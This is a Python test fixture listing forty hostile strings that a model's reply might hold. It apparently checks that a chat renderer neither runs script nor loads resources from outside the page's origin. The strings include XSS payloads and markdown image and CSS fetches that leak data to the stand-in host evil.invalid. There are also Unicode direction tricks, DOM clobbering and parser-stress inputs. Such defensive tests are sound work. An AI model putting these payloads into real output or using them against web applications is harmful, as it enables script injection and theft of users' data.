"""Forty replies of a hostile model: nothing of them may run, and nothing may leave the page's origin.

`PWN` is what would show that a script ran; `evil.invalid` is where the texts would call.
"""

PWN = "window.pwned=1"

HOSTILE = [
    f"<script>{PWN}</script>",
    f"<ScRiPt>{PWN}</sCrIpT>",
    '<script src="https://evil.invalid/a.js"></script>',
    f'<img src=x onerror="{PWN}">',
    '<img src="https://evil.invalid/a.png">',
    "![leak](https://evil.invalid/a.png?secret)",
    "![leak][ref]\n\n[ref]: https://evil.invalid/b.png",
    f'![x](x"onerror="{PWN}")',
    f"[click](javascript:{PWN})",
    f"[click](JaVaScRiPt:{PWN})",
    f"[click](java&#115;cript:{PWN})",
    f"[click](\x01javascript:{PWN})",
    "[click](data:text/html,<script>parent.pwned=1</script>)",
    f"[click](vbscript:{PWN})",
    f"<javascript:{PWN}>",
    f'<a href="javascript:{PWN}">click</a>',
    f'[a](https://x.invalid "\\" onmouseover=\\"{PWN}")',
    f"<svg onload={PWN}></svg>",
    f"<svg><script>{PWN}</script></svg>",
    f'<svg><a xlink:href="javascript:{PWN}"><text y=20>x</text></a></svg>',
    '<svg><use href="https://evil.invalid/a.svg#x"/></svg>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={PWN}>">',
    f'<math href="javascript:{PWN}">x</math>',
    "<style>@import 'https://evil.invalid/a.css'; body{display:none}</style>",
    '<div style="background:url(https://evil.invalid/a.png);position:fixed;inset:0">x</div>',
    '<link rel="stylesheet" href="https://evil.invalid/a.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
    '<base href="https://evil.invalid/">',
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    '<object data="https://evil.invalid/a"></object><embed src="https://evil.invalid/b">',
    f'<form action="https://evil.invalid/"><button formaction="javascript:{PWN}">x</button></form>',
    f"<details open ontoggle={PWN}><summary>x</summary></details><input autofocus onfocus={PWN}>",
    f'<video src="https://evil.invalid/a.mp4" autoplay></video><audio src=x onerror={PWN}></audio>',
    f"```html\n<script>{PWN}</script>\n</code></pre><img src=x onerror={PWN}>\n```",
    f'```"><img/src=x/onerror={PWN}>\ncode\n```\n\n`<img src=x onerror={PWN}>`',
    f"$\\href{{javascript:{PWN}}}{{x}}$ $$\\includegraphics{{https://evil.invalid/a.png}}$$",
    f'$\\class{{"onclick={PWN}}}{{x}}$ $</span><img src=x onerror={PWN}>$ $\\def\\a{{\\a\\a}}\\a$',
    "\u202etxet desrever\u202c \u2066x\u2069 \u200f" + "Z\u0351\u036b\u0343" * 200,
    '<dialog id="dialog" open>x</dialog><a id="text" name="log">x</a><form id=composer><input name=submit>',
    "**half [open](https://evil.invalid ```` <b <i <!-- $$ | a |\n|--|\n" + "> " * 300 + "deep\n" + "[" * 500,
]
